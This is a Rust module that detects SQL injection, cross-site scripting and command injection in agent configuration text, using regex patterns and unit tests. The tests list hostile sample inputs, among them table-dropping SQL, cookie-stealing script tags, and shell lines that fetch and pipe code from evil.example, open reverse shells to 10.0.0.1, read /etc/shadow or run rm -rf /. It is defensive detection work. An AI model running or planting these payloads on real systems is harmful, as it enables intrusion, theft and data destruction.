//! What attacks look like. Agents are configured with prose, in several languages, with quotes, braces, markup for speech
//! and talk of tables and orders; so each pattern asks for something that only a machine reads: a whole clause of SQL, a
//! handler in a tag, a command with its arguments behind a separator. A pattern that fires on prose is worse than a
//! missing one, since nobody looks at a counter that always counts.

use super::Anomaly;
use regex::{Regex, RegexSet};
use std::borrow::Cow;
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Adds what this text looks like.
pub(super) fn of(text: &str, found: &mut BTreeSet<Anomaly>) {
    if text.len() < SHORTEST || is_plain(text) {
        return;
    }
    let sql = without_comments(text);
    if SQL.is_match(&sql) || is_tautology(&sql) {
        found.insert(Anomaly::SqlInjection);
    }
    if SCRIPT.is_match(text) {
        found.insert(Anomaly::CrossSiteScripting);
    }
    if COMMAND.is_match(text) {
        found.insert(Anomaly::CommandInjection);
    }
}

/// Nothing but letters, digits, `-` and `:`, with a `+` in front; or nothing but digits and what stands between them in
/// numbers, times and addresses. Every pattern needs another character: a space, a quote, a bracket, a slash, a dot or an
/// underline beside a letter. Most texts of programs are plain: ids, names, numbers, signatures.
fn is_plain(text: &str) -> bool {
    let bytes = text.strip_prefix('+').unwrap_or(text).as_bytes();
    bytes.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b':'))
        || bytes.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'-' | b':' | b'.' | b' ' | b'+'))
}

/// No pattern fits into less.
const SHORTEST: usize = 3;

/// `union/**/select` is `union select` to a database.
fn without_comments(text: &str) -> Cow<'_, str> {
    if text.contains("/*") { SQL_COMMENT.replace_all(text, " ") } else { Cow::Borrowed(text) }
}

/// `or 1=1`, `' or 'a'='a`: a comparison of a thing with itself. (Looking back is more than a regular expression does.)
fn is_tautology(text: &str) -> bool {
    COMPARISON.captures_iter(text).any(|sides| {
        let side = |name: &str| sides.name(name).map_or("", |side| side.as_str());
        let quoted = !side("quote").is_empty();
        // `or x = x` unquoted may be a rule in a prompt; numbers and quoted words in front of each other are not.
        side("left") == side("right") && (quoted || side("left").bytes().all(|byte| byte.is_ascii_digit()))
    })
}

static SQL_COMMENT: LazyLock<Regex> = LazyLock::new(|| regex(r"(?s)/\*.*?\*/"));
static COMPARISON: LazyLock<Regex> = LazyLock::new(|| {
    regex(concat!(
        r#"(?i)(?:\b(?:or|and)\b|\|\||&&)\s*\(*\s*(?:not\s+)?(?P<quote>['"]?)(?P<left>\w*)['"]?\s*(?:=|\blike\b)"#,
        r#"\s*['"]?(?P<right>\w*)"#
    ))
});

static SQL: LazyLock<RegexSet> = LazyLock::new(|| {
    set(&[
        // A second query glued on.
        r#"\bunion[\s+(]+(?:all[\s+]+|distinct[\s+]+)?select[\s+]+(?:null\b|-?\d+\s*(?:,|--|\#|\)|$)|@@|\*|['"(]|\w+\s*\(|\w+\s*,|[\w.]+\s+from\s+\w)"#,
        // A second statement.
        r"['\x22\d)]?\s*;\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|index|view|role|function|trigger)\s+\S",
        r"['\x22\d)]\s*;\s*(?:delete\s+from\s+\w|insert\s+into\s+\w|update\s+\w+\s+set\s|select\s+\S+\s+from\s|exec(?:ute)?\s+\w|declare\s+@|shutdown\s*(?:;|--|$)|copy\s+\w+\s+(?:from|to)\s)",
        // A quote that ends a string, and a comment that hides the rest.
        r#"['"]\s*\)*\s*;?\s*(?:--|\#|/\*)\s*$"#,
        r#"['"]\s*\)*\s*;\s*--"#,
        // A false or true comparison at the end, to see whether the answer changes.
        r#"['")\d]\s+(?:and|or)\s+\(*\d+\s*[=<>]\s*\d+\)*\s*(?:--|\#|;|['"]|$)"#,
        // Waiting, to see whether the answer is late.
        r"\b(?:pg_sleep|dbms_lock\.sleep|dbms_pipe\.receive_message|randomblob)\s*\(",
        r"\bsleep\s*\(\s*\d+\s*\)",
        r"\bbenchmark\s*\(\s*\d+\s*,",
        r"\bwaitfor\s+delay\s+['\x22]",
        // Tables and functions about the database itself.
        r"\binformation_schema\s*\.|\bsqlite_(?:master|schema)\b|\bpg_catalog\s*\.|\bpg_shadow\b|\bsys(?:\.|\s)(?:databases|objects|user_tables)\b",
        r"\bxp_cmdshell\b|\bload_file\s*\(|\binto\s+(?:out|dump)file\s+['\x22]|@@(?:version|hostname|datadir)\b",
        r"\b(?:extractvalue|updatexml)\s*\(|\bchar\s*\(\s*\d+\s*(?:,\s*\d+\s*)*\)|\bconcat(?:_ws)?\s*\(\s*0x|\bgroup_concat\s*\(",
        // A query inside a value.
        r"\(\s*select\s+(?:count\s*\(|\*\s*from\b|(?:[\w.]+\s*,\s*)*[\w.]+\s+from\s+[\w.]+\s+(?:where\b|limit\s+\d))",
        r"\bcase\s+when\s+\(?.*\)?\s+then\s+.*\bend\s*\)\s*(?:--|$)",
        r"['\x22]\s*\|\|\s*(?:\(\s*select\b|\w+\s*\(|['\x22]\s*(?:--|$))",
        r"['\x22]\s*\)*\s+(?:order|group)\s+by\s+\d+\s*(?:--|\#|$)|\bhaving\s+\d+\s*=\s*\d+",
    ])
});

static SCRIPT: LazyLock<RegexSet> = LazyLock::new(|| {
    set(&[
        // Tags that load or run something. Markup for speech (<speak>, <break/>, <prosody>) has none of them.
        r"<\s*/?\s*script(?:[\s>/]|$)",
        r"<\s*(?:iframe|embed|applet|frameset)(?:[\s>/]|$)",
        r"<\s*object\s[^>]*\bdata\s*=|<\s*base\s[^>]*\bhref\s*=|<\s*meta\s[^>]*\bhttp-equiv|<\s*form\s[^>]*\baction\s*=|<\s*link\s[^>]*\bhref\s*=",
        // A handler of an event in any tag, also behind a broken attribute.
        r#"<\s*[a-z!?][^>]*[\s/'"]on[a-z]{3,}\s*="#,
        r#"['"]\s*on(?:error|load|click|focus|blur|mouse[a-z]+|key[a-z]+|toggle|animation[a-z]+|pointer[a-z]+)\s*=\s*['"`]?\s*[\w.]+\s*[(`=]"#,
        // An address that is a program.
        r"\b(?:javascript|vbscript|livescript)\s*:\s*(?://|[a-z_$][\w.$]*\s*[(\[`=]|[\w.]*document\.)",
        r"\bdata\s*:\s*(?:text/html|image/svg\+xml|application/javascript)\s*[;,]",
        r"\bsrcdoc\s*=|\bstyle\s*=\s*['\x22][^>]*\bexpression\s*\(",
        // What such programs do first.
        r"\bdocument\s*\.\s*(?:cookie|write(?:ln)?\s*\(|location\s*=|domain\s*=)|\bwindow\s*\.\s*location\s*=",
        r"\b(?:eval|settimeout|setinterval|function)\s*\(\s*(?:atob|unescape|string\s*\.\s*fromcharcode|location\b|name\s*\)|document\b)",
        r"\bstring\s*\.\s*fromcharcode\s*\(|\bconstructor\s*\.\s*constructor\s*\(",
        r#"[>;'"]\s*(?:alert|prompt|confirm)\s*[(`]\s*(?:\d+|document\b|['"`/]|xss)"#,
    ])
});

static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
    set(&[
        // Behind a separator, a program with arguments as only a shell takes them.
        r"(?:[;|&\n`]|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:cat|head|tail|less|more|tac|nl)\s+(?:-\w+\s+)*(?:/|\.\./|~/|\$)",
        r"(?:[;|&`]|\$\()\s*ls\s*(?:-[a-z]+\b|/\w*|$|[;&])",
        r"(?:[;|&\n`]|\$\()\s*(?:curl|wget|fetch)\s+(?:-\w+\s+)*(?:https?://|ftp://|\d+\.\d+\.\d+\.\d+|\$|[\w-]+(?:\.[\w-]+)+/)",
        r"(?:[;|&\n`]|\$\()\s*(?:nc|ncat|netcat|socat)\s+(?:-\w+\s+)*(?:[\w.-]+\s+\d+|-\w*e)",
        r"(?:[;|&\n`]|\$\()\s*(?:/(?:usr/)?bin/)?(?:ba|z|da|k|c)?sh\s+-[ci]\b|\|\s*(?:ba|z|da|k)?sh\s*(?:$|[;&])",
        r"(?:[;|&\n`]|\$\()\s*(?:python[23]?|perl|ruby|php|node|lua)\s+-[cer]\s",
        r"(?:[;|&\n`]|\$\()\s*rm\s+-[rf]+\s|(?:[;|&`]|\$\()\s*chmod\s+(?:\+x|[0-7]{3,4})\s",
        r"(?:[;|&\n`]|\$\()\s*ping\s+-[cnt]\s*\d|(?:[;|&`]|\$\()\s*nslookup\s+[\w.$({})-]+\.\w|(?:[;|&`]|\$\()\s*dig\s+[+@\w.]+\.\w+\s*(?:$|[;&|])",
        r"(?:[;|&`]|\$\()\s*sleep\s+\d+\s*(?:$|[;&|`)#])",
        // Without arguments they are words; glued to the separator they are not.
        r"(?:[;&]|\|\|?|\$\()(?:id|whoami|uname|hostname|pwd|env|ifconfig|netstat|ps)(?:\s+-[a-z]+)?\s*(?:$|[;&)])",
        r"(?:;|&&|\|\|?)\s*(?:whoami|uname\s+-a|ifconfig|netstat\s+-\w+|ps\s+aux|ps\s+-ef)\s*(?:$|[;&|])",
        r"`\s*(?:whoami|uname(?:\s+-a)?|ifconfig|pwd)\s*`|\$\(\s*(?:whoami|id|uname|ls|pwd|hostname|env)\b[^)]*\)",
        // Windows.
        r"(?:[;|&]|^)\s*(?:cmd(?:\.exe)?\s*/c\s|powershell(?:\.exe)?\s+-\w+)|[;|&]\s*(?:dir|type)\s+[a-z]:\\",
        // What they are after, and how they hide.
        r"/etc/(?:passwd|shadow|sudoers)\b|/proc/self/environ\b|/dev/(?:tcp|udp)/|(?:\.\./){3,}",
        r"\$\{?ifs\b|\(\)\s*\{\s*:?\s*;?\s*\}\s*;|\$\{jndi:",
    ])
});

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a pattern of ours; a test compiles each")
}

fn set(patterns: &[&str]) -> RegexSet {
    regex::RegexSetBuilder::new(patterns)
        .case_insensitive(true)
        .dot_matches_new_line(true)
        .build()
        .expect("patterns of ours; a test compiles each")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<Anomaly> {
        let mut found = BTreeSet::new();
        of(text, &mut found);
        found.into_iter().collect()
    }

    #[test]
    fn sql_is_seen() {
        for text in [
            "' OR '1'='1",
            "' or 1=1--",
            "1 OR 1=1",
            "x' or 'a' like 'a",
            "\" or \"\"=\"",
            "') or ('a'='a",
            "1 || 1=1",
            "admin'--",
            "admin' #",
            "admin')) -- ",
            "1; DROP TABLE users",
            "Robert'); DROP TABLE Students;--",
            "1; delete from calls",
            "x'; insert into users values (1)",
            "1'; exec xp_cmdshell 'dir'--",
            "1 UNION SELECT null,null--",
            "-1 union all select 1,2,3",
            "1/**/union/**/select/**/password/**/from/**/users",
            "' union select username, password from users--",
            "1+union+select+1,2",
            "1 and 1=2",
            "id=1' and 1=2--",
            "1' AND SLEEP(5)#",
            "1; select pg_sleep(10)",
            "1 and benchmark(10000000,md5(1))",
            "'; waitfor delay '0:0:5'--",
            "select * from information_schema.tables",
            "(select sql from sqlite_master limit 1)",
            "1 and (select count(*) from users) > 0",
            "1 and (select password from users where id = 1) like 'a%'",
            "extractvalue(1,concat(0x7e,version()))",
            "' order by 10--",
            "x'||(select password from users)||'",
            "1 having 1=1",
            "load_file('/x')",
        ] {
            assert!(found(text).contains(&Anomaly::SqlInjection), "{text}");
        }
    }

    #[test]
    fn scripts_are_seen() {
        for text in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js>",
            "< script >x",
            "</title><script/x>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onpageshow = x()>",
            "\"><img src=\"x\" onerror=\"alert(1)\">",
            "<details open ontoggle=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "JaVaScRiPt:document.cookie",
            "javascript://%0aalert(1)",
            "vbscript:msgbox(1)",
            "<iframe src=//evil.example>",
            "<embed src=x>",
            "<object type=x data=//evil.example>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0>",
            "<form action=//evil.example>",
            "<p style=\"width: expression(alert(1))\">",
            "data:text/html;base64,PHNjcmlwdD4=",
            "'; document.cookie",
            "x\" onfocus=alert(1) autofocus=\"",
            "';alert(1)//",
            "eval(atob('YWxlcnQoMSk='))",
            "String.fromCharCode(88,83,83)",
            "{{constructor.constructor('alert(1)')()}}",
            "window.location='//evil.example'",
        ] {
            assert!(found(text).contains(&Anomaly::CrossSiteScripting), "{text}");
        }
    }

    #[test]
    fn commands_are_seen() {
        for text in [
            "; cat /etc/passwd",
            "x | cat ../secret",
            "$(cat /flag)",
            "x;ls -la",
            "127.0.0.1 && ls /",
            "x; ls",
            "; curl http://evil.example/x | sh",
            "x`wget evil.example/x`",
            "| nc 10.0.0.1 4444 -e /bin/sh",
            "; bash -c 'id'",
            "x | sh",
            "; python3 -c 'import os'",
            "&& rm -rf /",
            "x;id",
            "x|id",
            "x && whoami",
            "`whoami`",
            "$(id)",
            "$(uname -a)",
            "; ping -c 10 127.0.0.1",
            "; sleep 10",
            "x & sleep 10 &",
            "| nslookup evil.example.com",
            "() { :;}; echo vulnerable",
            "${jndi:ldap://evil.example/a}",
            "cat${IFS}/etc/hosts",
            "/../../../../etc/passwd",
            "& dir C:\\",
            "; powershell -enc AAAA",
            "& cmd /c dir",
            "x\ncat /etc/shadow",
            "bash -i >& /dev/tcp/10.0.0.1/4444",
        ] {
            assert!(found(text).contains(&Anomaly::CommandInjection), "{text}");
        }
    }

    #[test]
    fn what_people_write_is_not() {
        for text in [
            "O'Brien",
            "Dr. D'Souza & Sons' Clinic -- since 1974",
            "Asha Rao <asha.rao+caly@clinic.in>",
            "asha.o'neil@example.co.in",
            "It's 'fine' or \"good\" = ok; call back",
            "If the caller says \"yes\" or \"haan\" = confirm the booking; otherwise ask again.",
            "Press 1 or 2; 1 = sales, 2 = support, or 3 = a person.",
            "Union members select a date from the calendar; the union selects its table.",
            "Select one (or more) from the list, and update the order where needed.",
            "Drop the table reservation if the party is late; create a new one.",
            "If they want to delete; insert a note into the record and update it, then drop off.",
            "Where is my order? Group by family, order by 7 pm.",
            "He said: 'sleep (8 hours)'; rest; sleep well",
            "Bring: passport; id; photo & 2 copies | or a driving licence",
            "| id | name | hostname |\n|----|------|----------|\n| 1 | Asha | ls |",
            "Use the `id` field; `ls` is short for lakhs; return `env` as text.",
            "cats; cat food & toys | head office; more details",
            "Our shop sells curl cream; wget it? No: just ask; ping me after 5.",
            "Call +91 98123 45678; WhatsApp & SMS also; echo back the number.",
            "<speak>Hello <break time=\"500ms\"/><prosody rate=\"slow\">नमस्ते</prosody></speak>",
            "a < b and b > c; x <= y; 5 > 3",
            "We teach JavaScript: basics, and regular expressions (like these).",
            "Alert the customer (twice), then confirm (politely) and prompt for \"yes\".",
            "The document is ready; set the window to 10 minutes. Script: greet, ask, thank.",
            "on Monday = open, on Sunday = closed; reason = \"holiday\"",
            "Data: text or html. Style = formal, expression (smile) allowed.",
            "नमस्ते, यह क्लिनिक की ओर से कॉल है; क्या आप मंगलवार या बुधवार को आ सकते हैं?",
            "मेरा नाम ओ'ब्रायन है — \"हाँ\" या \"नहीं\" कहिए।",
            "உங்கள் பெயர் என்ன? -- நன்றி #1",
            "{business.name} is open {business.opens}-{business.closes}; {amount} due {due}.",
            "arguments = { phone = \"{caller_number}\", order = \"{order}\" }",
            "when = { yes = \"thanks\", no = \"when\" }\n[[step]]\nid = \"more\"",
            "https://hooks.example.in/orders?id={order}&status=open&and=1#top",
            "https://example.org/search?q=it%27s+fine&order=desc;page=2",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "application/json, text/plain, */*",
            "attachment; filename=\"order's list.csv\"; size=10",
            "You are Asha. Never say 1=1 is false; a customer's \"order\" and a customer's \"bill\" are one.",
            "SELECT is a word; so is FROM. The table's legs -- all four -- are oak.",
            "C:\\Users\\asha\\Documents; type the code, dir. of finance",
            "The price is $(500) or ${price}; pay & go",
            "correct horse battery staple; or '12' = 'dozen'",
            "#1 choice' or \"#2\"",
            "Tel: 080-4749 1899 -- ask for the customers' desk",
            "or",
            "",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn flows_of_ours_are_not() {
        let mut read = 0;
        for entry in std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../../flows")).expect("a folder") {
            let path = entry.expect("an entry").path();
            let text = std::fs::read_to_string(&path).expect("a text");
            assert_eq!(found(&text), [], "{}", path.display());
            for line in text.lines() {
                assert_eq!(found(line), [], "{}: {line}", path.display());
            }
            read += 1;
        }
        assert!(read >= 3, "{read}");
    }

    #[test]
    fn long_texts_take_no_long_time() {
        // Linear: a backtracking engine would not come back.
        for piece in ["<a ", "' or ", "union select ", "; cat ", "case when ", "((((", "/*"] {
            let text = piece.repeat(64 * 1024 / piece.len());
            let began = std::time::Instant::now();
            let _ = found(&text);
            assert!(began.elapsed() < std::time::Duration::from_secs(5), "{piece}");
        }
    }
}
